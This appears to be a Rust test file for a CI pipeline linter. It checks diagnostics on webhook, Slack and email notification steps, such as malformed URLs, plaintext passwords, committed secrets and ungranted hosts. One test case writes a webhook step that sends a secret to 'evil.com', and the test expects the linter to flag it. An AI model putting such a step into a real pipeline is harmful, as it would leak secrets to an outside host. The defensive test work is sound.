//! What `check` says of this family, and the suite for kinds.

use millwork_testkit::kind_suite;

use crate::lab::{check, pipeline, registry};

#[test]
fn every_kind_conforms() {
    let folder = tempfile::tempdir().expect("a folder");
    kind_suite::run_all(&registry(), folder.path());
}

/// The problems of a step in lines, each with its place.
fn problems(secrets: &[&str], step: &str) -> Vec<String> {
    let folder = tempfile::tempdir().expect("a folder");
    let checked = check(&pipeline(secrets, step), folder.path());
    let lines = checked.diagnostics.iter().map(|problem| {
        let at = checked.source.position(problem.primary.span.start);
        assert!(problem.help.is_some() || problem.suggestion.is_some() || problem.code.as_str() == "P0006");
        format!("{}:{} {} {}", at.line, at.column, problem.code, problem.message)
    });
    lines.collect()
}

#[test]
fn webhooks_are_checked() {
    let step = "uses: notify.webhook\nwith:\n  url: example.com/hook\n  method: GET\n  \
                headers: {\"bad name\": x, Webhook-Id: mine}\n  body: {a: 1}\n  text: b\n  expect: [200, 99]\n  sign: plain";
    assert_eq!(
        problems(&[], step),
        ["8:15 P0006 `GET` is not one of `POST`, `PUT`"],
        "what cannot be read comes first"
    );
    assert_eq!(
        problems(&[], &step.replace("GET", "PUT")),
        [
            "7:12 P0006 `url` is no address: it does not begin with `https://`",
            "9:29 P0006 `bad name` is no name of a header",
            "9:44 P0006 the header `Webhook-Id` is set by the step itself",
            "11:13 P0019 `body` and `text` exclude each other",
            "12:21 P0009 99 is no status that an answer has",
            "13:13 P0024 the key to sign with stands in the file",
        ]
    );
    let begun = "uses: notify.webhook\nwith: {url: \"https:///x/${{ secrets.T }}\"}";
    assert_eq!(problems(&["T"], begun), Vec::<String>::new(), "a host can be read in it");
    let user = "uses: notify.webhook\nwith: {url: \"https://ann:pw@example.com/${{ secrets.T }}\"}";
    assert!(problems(&["T"], user)[0].contains("a name and a password cannot stand in it"));
}

#[test]
fn slack_messages_are_checked() {
    let step = "uses: notify.slack\nwith:\n  webhook: https://hooks.slack.com/services/T/B/x\n  text: \"\"\n  \
                blocks: [{type: divider}, {text: x}]";
    assert_eq!(
        problems(&[], step),
        [
            "7:16 P0024 the address of the hook, with which anybody can post, stands in the file",
            "8:13 P0006 `text` is empty",
            "9:15 P0006 block 2 has no `type`, such as `section` or `header`",
        ]
    );
}

#[test]
fn mails_are_checked() {
    let step = "uses: notify.email\nwith:\n  server: {host: \"smtp://x\", user: a, tls: none}\n  from: nobody\n  \
                to: [ann@example.com, bob at example]\n  subject: s\n  attach: [3]";
    assert_eq!(
        problems(&[], step),
        [
            "7:22 P0023 this is not the name of a server",
            "7:40 P0005 `user` needs a `password`",
            "8:13 P0006 `nobody` is no address of a mailbox",
            "9:29 P0006 `bob at example` is no address of a mailbox",
            "10:16 P0005 the mail says nothing: `text` or `html` is missing",
            "11:16 P0006 expected a file, a path, or a list of those to attach, found int",
        ]
    );
    let open = "uses: notify.email\nwith:\n  server: {host: mail.example.com, user: a, tls: none, password: pw}\n  \
                from: a@b.cc\n  to: a@b.cc\n  subject: s\n  text: t";
    let found = problems(&[], open);
    let [plain, open] = found.as_slice() else { panic!("{found:?}") };
    assert!(plain.contains("P0019 the password would be sent in plain"), "{plain}");
    assert!(open.contains("P0024 a password stands in the file"), "{open}");
}

/// Hosts are looked at where they are written, in each kind.
#[test]
fn hosts_that_are_not_granted_are_named() {
    let folder = tempfile::tempdir().expect("a folder");
    let granted = "permissions: {http: [hooks.example.com, \"*.corp.example.com\"]}\n";
    for (step, expected) in [
        ("uses: notify.webhook\nwith: {url: \"https://hooks.example.com/x\"}", ""),
        ("uses: notify.webhook\nwith: {url: \"https://hooks.example.com/${{ secrets.T }}\"}", ""),
        ("uses: notify.webhook\nwith: {url: \"${{ secrets.T }}\"}", ""),
        ("uses: notify.webhook\nwith: {url: \"https://evil.com/${{ secrets.T }}\"}", "`evil.com`"),
        ("uses: notify.webhook\nwith: {url: \"http://corp.example.com/\"}", "`corp.example.com`"),
        (
            "uses: notify.slack\nwith: {webhook: \"https://hooks.slack.com/${{ secrets.T }}\", text: x}",
            "`hooks.slack.com`",
        ),
        (
            "uses: notify.email\nwith: {server: {host: smtp.corp.example.com}, from: a@b.cc, to: a@b.cc, subject: s, text: t}",
            "",
        ),
        (
            "uses: notify.email\nwith: {server: {host: smtp.example.com}, from: a@b.cc, to: a@b.cc, subject: s, text: t}",
            "`smtp.example.com`",
        ),
    ] {
        let text = pipeline(&["T"], step).replacen("steps:", &format!("{granted}steps:"), 1);
        let checked = check(&text, folder.path());
        let found: Vec<_> = checked.diagnostics.iter().filter(|d| d.code.as_str() == "T0111").collect();
        assert_eq!(found.len(), usize::from(!expected.is_empty()), "{step}");
        assert!(found.iter().all(|d| d.message.contains(expected) && d.help.is_some()), "{found:?}");
    }
}
